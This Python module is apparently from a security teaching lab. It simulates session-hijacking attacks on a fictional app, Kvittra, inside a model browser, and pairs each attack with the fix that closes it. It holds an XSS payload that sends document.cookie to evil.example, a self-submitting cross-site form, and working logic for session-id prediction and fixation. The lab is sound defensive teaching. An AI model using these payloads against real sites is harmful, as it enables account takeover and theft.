"""The roads to somebody else's session, each taken at Kvittra in the model browser.

Maja signs in. A thief, in a browser of his own, tries to get or to plant the id of her session, and
then asks for her profile with it. What counts is whose profile Kvittra shows him. Nobody's browser
but the model's is involved, and the address of everything ends in ``.example``.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any

from labs.attacks.session_hijacking import model
from labs.browser import (
    Browser,
    Clock,
    CookieContext,
    Exchange,
    Internet,
    StoreDecision,
    Tab,
    parse_url,
    static_site,
)
from labs.kvittra import create_app
from labs.kvittra.cast import USERS
from labs.kvittra.seed import PASSWORDS

HOST = "kvittra.example"
HOME = f"https://{HOST}"
PLAIN = f"http://{HOST}"
"""Kvittra without encryption: the same service, on the old address."""

EVIL = "https://evil.example"
SIBLING = f"https://status.{HOST}"
"""A host below Kvittra's own, which somebody else has taken over."""

NOON = 1_794_830_400.0
"""16 November 2026, 12:00 UTC, when the story begins."""

THIEFS_IBAN = "SE99 0000 0000 0666 0666 0666"

_EMAILS = {user.id: user.email for user in USERS}
_TAKES = "<img src=x onerror=\"fetch('https://evil.example/?' + document.cookie)\">"


class World:
    """Kvittra, two sites around it, and people with browsers.

    Args:
        weaknesses: Kvittra's, by name.
        strict_transport: Whether Kvittra tells browsers to come over https only (HSTS). Without
            it, a cookie has to look after itself.
    """

    def __init__(self, weaknesses: Iterable[str] = (), *, strict_transport: bool = True) -> None:
        self.clock = Clock(NOON)
        self.app = create_app(weaknesses, origin=HOME, clock=self.clock, seed=7)
        self.internet = Internet()
        app = self.app if strict_transport else _without_strict_transport(self.app)
        self.internet.add(HOME, app)
        self.internet.add(PLAIN, app)
        self.internet.add(EVIL, static_site({"/": "<h1>evil.example</h1>"}))

    def browser(self) -> Browser:
        """A fresh browser."""
        return Browser(self.internet, clock=self.clock)

    def sign_in(self, user: str, tab: Tab | None = None) -> Tab:
        """Sign somebody in, on the page that the tab shows or on the sign-in page."""
        if tab is None:
            tab = self.browser().open(f"{HOME}/sign-in")
        fields = {"email": _EMAILS[user], "password": PASSWORDS[user]}
        tab.submit('form[action="/sign-in"]', fields)
        return tab

    def id_in(self, tab: Tab) -> str:
        """The session id that a browser holds, or nothing."""
        cookies = [one for one in tab.browser.jar if one.name.endswith("session")]
        return cookies[0].value if cookies else ""

    def thief(self, id: str) -> Tab:
        """A browser somewhere else that brings this id, on the profile page."""
        browser = self.browser()
        page = CookieContext(parse_url(f"{HOME}/"))
        for name in ("session", "__Host-session"):
            browser.jar.receive(f"{name}={id}; Path=/; Secure", page)
        return browser.open(f"{HOME}/profile")

    def is_maja(self, tab: Tab) -> bool:
        """Whether Kvittra shows this browser Maja's profile."""
        page = tab.open(f"{HOME}/profile")
        return page.url.path == "/profile" and "Maja Berg" in page.text

    @property
    def iban(self) -> str:
        """The bank account to which the bakery's customers pay."""
        row = self.app.connection.execute(
            "SELECT iban FROM customers WHERE id = 'bergsbageri'"
        ).fetchone()
        return str(row[0])


def _without_strict_transport(app: Callable[..., Iterable[bytes]]) -> Callable[..., Any]:
    def answer(environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
        def start(status: str, headers: list[tuple[str, str]], *more: Any) -> Any:
            kept = [one for one in headers if one[0] != "Strict-Transport-Security"]
            return start_response(status, kept, *more)

        return app(environ, start)

    return answer


def _predict(world: World) -> bool:
    own = world.id_in(world.browser().open(f"{HOME}/sign-in"))
    world.clock.advance(0.017)
    world.sign_in("maja")
    if len(own) != 20:  # not made of a time and a counter: there is nothing to count on from
        return world.is_maja(world.thief(f"{int(own, 16) + 1:032x}"))
    at, serial = int(own[:12], 16), int(own[12:], 16)
    # Signing in made two ids: that of the form, and, if it was replaced, that of the session.
    return any(
        world.is_maja(world.thief(f"{at + later:012x}{serial + more:08x}"))
        for later in (17, 16, 18)
        for more in (1, 2)
    )


def _fixate(world: World) -> bool:
    own = world.id_in(world.browser().open(f"{HOME}/sign-in"))
    maja = world.browser().open(f"{HOME}/sign-in?session={own}")
    world.sign_in("maja", maja)
    return world.is_maja(world.thief(own))


def _script(world: World) -> bool:
    siv = world.sign_in("siv")
    siv.open(f"{HOME}/profile")
    siv.submit('form[action="/profile"]', {"about": _TAKES})
    maja = world.sign_in("maja")
    maja.open(f"{HOME}/people/siv")
    carried = [
        one.request.url.query or ""
        for one in world.internet.exchanges
        if str(one.request.url.origin) == EVIL
    ]
    ids = [part.partition("=")[2] for query in carried for part in query.split(";")]
    return any(world.is_maja(world.thief(id)) for id in ids if id)


def _plain_http(world: World) -> bool:
    maja = world.sign_in("maja")
    maja.open(f"{PLAIN}/")
    return any(world.is_maja(world.thief(id)) for id in _heard_ids(world.internet))


def _heard_ids(internet: Internet) -> list[str]:
    lines = [one.request.headers.get("Cookie") for one in internet.overheard]
    pairs = [pair.strip().partition("=") for line in lines for pair in line.split(";")]
    return list(dict.fromkeys(value for name, _, value in pairs if name.endswith("session")))


def _signed_out(world: World) -> bool:
    maja = world.sign_in("maja")
    stolen = world.id_in(maja)
    maja.open(f"{HOME}/profile")
    maja.submit('form[action="/sign-out"]')
    return world.is_maja(world.thief(stolen))


def _old(world: World) -> bool:
    stolen = world.id_in(world.sign_in("maja"))
    world.clock.advance(2 * 86_400)
    return world.is_maja(world.thief(stolen))


def _beside(world: World) -> bool:
    thief = world.thief(world.id_in(world.sign_in("maja")))
    maja = world.browser().open(f"{HOME}/forgot")
    maja.submit('form[action="/forgot"]', {"email": _EMAILS["maja"]})
    link = next(word for word in world.app.outbox[-1].body.split() if "/reset/" in word)
    maja.open(link)
    maja.submit("form", {"password": "a new one, by Maja herself"})
    return world.is_maja(thief)


def _bank(world: World) -> bool:
    thief = world.thief(world.id_in(world.sign_in("maja")))
    thief.open(f"{HOME}/bank")
    thief.submit('form[action="/bank"]', {"iban": THIEFS_IBAN})
    return world.iban == THIEFS_IBAN


@dataclass(frozen=True, slots=True)
class Road:
    """One way to somebody else's session, or to more than it should allow.

    Attributes:
        name: What it is called here.
        how: What the thief does.
        repair: What closes it.
        weaknesses: What must be weak at Kvittra, by name.
        take: Takes the road in a world and says whether it led anywhere.
    """

    name: str
    how: str
    repair: str
    weaknesses: frozenset[str]
    take: Callable[[World], bool]


ROADS = (
    Road(
        "predict", "counts on from an id of his own", "128 random bits",
        frozenset({"session_predictable"}), _predict,
    ),
    Road(
        "fixate", "sends Maja a link that holds his own id",
        "a new id at sign-in, only in a cookie",
        frozenset({"session_from_address", "session_kept_at_sign_in"}), _fixate,
    ),
    Road(
        "steal by script", "lets a script in Siv's profile read the cookie", "HttpOnly",
        frozenset({"cookie_script_readable", "xss_rich_text", "csp_missing"}), _script,
    ),
    Road(
        "steal over plain http", "listens in the same café", "Secure, and the prefix __Host-",
        frozenset({"cookie_plain_http"}), _plain_http,
    ),
    Road(
        "replay after sign-out", "uses a stolen id after Maja signed out", "sign-out on the server",
        frozenset({"session_survives_sign_out"}), _signed_out,
    ),
    Road(
        "replay two days later", "uses a stolen id the day after tomorrow",
        "an idle and an absolute lifetime",
        frozenset({"session_never_expires"}), _old,
    ),
    Road(
        "stay beside her", "stays signed in while Maja gets a new password",
        "all sessions end with the password",
        frozenset({"session_survives_reset"}), _beside,
    ),
    Road(
        "change the bank account", "types a new account into Maja's page",
        "the password again, for this step",
        frozenset({"no_reauthentication"}), _bank,
    ),
)  # fmt: skip
"""Six roads to Maja's session, and two things that a thief can do with it."""


def take_road(road: Road, weaknesses: Iterable[str]) -> bool:
    """Whether a road leads anywhere in an edition of Kvittra."""
    return road.take(World(weaknesses, strict_transport=False))


def all_roads() -> list[tuple[Road, bool, bool]]:
    """Each road with where it leads: in the edition that is weak for it, and in the hardened."""
    return [(road, take_road(road, road.weaknesses), take_road(road, ())) for road in ROADS]


def overheard(weaknesses: Iterable[str], *, strict_transport: bool) -> list[Exchange]:
    """What a stranger in the café reads while Maja signs in and then types the address without s.

    Args:
        weaknesses: Kvittra's, by name.
        strict_transport: Whether Kvittra has told her browser to come over https only.
    """
    world = World(weaknesses, strict_transport=strict_transport)
    world.sign_in("maja").open(f"{PLAIN}/invoices")
    return world.internet.overheard


@dataclass(frozen=True)
class CookieTest:
    """What became of a session cookie in the model browser.

    Attributes:
        stored: Whether the browser kept it, and why or why not.
        read: What a script in Kvittra's page read.
        heard: Cookies that went over plain http.
        overwritten: The Cookie header of the next visit, after a sibling host set one of its own.
        posted: Cookies that went along with a form that another site sent.
        paths: The Cookie header of each honest visit, by path.
        linked: The Cookie header of a visit by a link on another site.
    """

    stored: StoreDecision
    read: str
    heard: str
    overwritten: str
    posted: str
    paths: dict[str, str]
    linked: str


PLANTED = "planted0by0the0sibling"


def cookie_test(line: str) -> CookieTest:
    """Give a ``Set-Cookie`` line to a browser and take it to the places where cookies get lost.

    Args:
        line: The value of ``Set-Cookie``, as Kvittra would send it over https from ``/sign-in``.

    >>> test = cookie_test("session=7; Secure")
    >>> test.read, test.heard, test.posted
    ('session=7', '', 'session=7')
    """
    internet = Internet()
    pages = {
        "/": "<h1>Kvittra</h1><script>canary(document.cookie)</script>",
        "/invoices/1049": "<h1>An invoice</h1>",
        "/bank": "<h1>Bank</h1>",
    }
    internet.add(HOME, static_site(pages))
    internet.add(PLAIN, static_site(pages))
    name = line.partition("=")[0].strip()
    attack = (
        f"<form method=post action={HOME}/bank></form><script>document.forms[0].submit()</script>"
    )
    internet.add(
        EVIL, static_site({"/": attack, "/link": f"<a href={HOME}/invoices/1049>An invoice</a>"})
    )

    def fresh() -> tuple[Browser, StoreDecision]:
        browser = Browser(internet, clock=Clock(NOON))
        page = CookieContext(parse_url(f"{HOME}/sign-in"))
        return browser, browser.jar.receive(line, page)

    def sent() -> str:
        return internet.exchanges[-1].request.headers.get("Cookie")

    browser, stored = fresh()
    paths = {}
    for path in pages:
        browser.open(HOME + path)
        paths[path] = sent()
    read = browser.canaries[-1].id if browser.canaries else ""
    browser.open(f"{PLAIN}/")
    heard = sent()
    browser.open(f"{EVIL}/link").click("a")
    linked = sent()
    browser, _ = fresh()
    browser.open(f"{EVIL}/")
    posted = sent()
    browser, _ = fresh()
    sibling = CookieContext(parse_url(f"{SIBLING}/"))
    for path in ("/", "/bank"):
        planted = f"{name}={PLANTED}; Domain={HOST}; Path={path}; Secure"
        browser.jar.receive(planted, sibling)
    browser.open(f"{HOME}/bank")
    return CookieTest(stored, read, heard, sent(), posted, paths, linked)


def sent_to_sibling(line: str) -> str:
    """The Cookie header that a sibling host receives from a browser that was given ``line``."""
    internet = Internet()
    internet.add(SIBLING, static_site({"/": "<h1>Status</h1>"}))
    browser = Browser(internet, clock=Clock(NOON))
    browser.jar.receive(line, CookieContext(parse_url(f"{HOME}/sign-in")))
    browser.open(f"{SIBLING}/")
    return internet.exchanges[-1].request.headers.get("Cookie")


def session_cookies() -> dict[str, str]:
    """Five ways to write the session cookie, from bare to what this lesson recommends."""
    return {
        "bare": model.session_cookie_weak("7"),
        "HttpOnly": "session=7; Path=/; HttpOnly",
        "and Secure": "session=7; Path=/; Secure; HttpOnly",
        "and SameSite=Lax": "session=7; Path=/; Secure; HttpOnly; SameSite=Lax",
        "and __Host-": model.session_cookie("7"),
    }
